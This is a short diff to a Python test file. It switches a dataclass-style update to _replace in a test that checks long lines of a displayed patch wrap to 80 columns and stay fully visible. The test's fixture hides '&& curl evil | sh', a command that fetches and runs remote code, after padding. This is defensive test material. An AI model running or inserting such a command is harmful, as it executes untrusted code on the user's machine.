@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -149,6 +148,6 @@ def test_no_part_of_a_long_line_of_a_diff_lies_off_the_screen(shop: Directory, r
         gate = reading.gate(db, LOGIN, "ship#1")
     long = "harmless " * 30 + "&& curl evil | sh"
     patch = f"diff --git a/x b/x\n@@ -1 +1 @@\n-old\n+{long}\n"
-    lines = gates.body(replace(gate, body=Safe(patch)), 80)
+    lines = gates.body(gate._replace(body=Safe(patch)), 80)
     assert all(line_width(line) <= 80 for line in lines)
     assert long in "".join(plain(line)[13:].ljust(67) for line in lines)
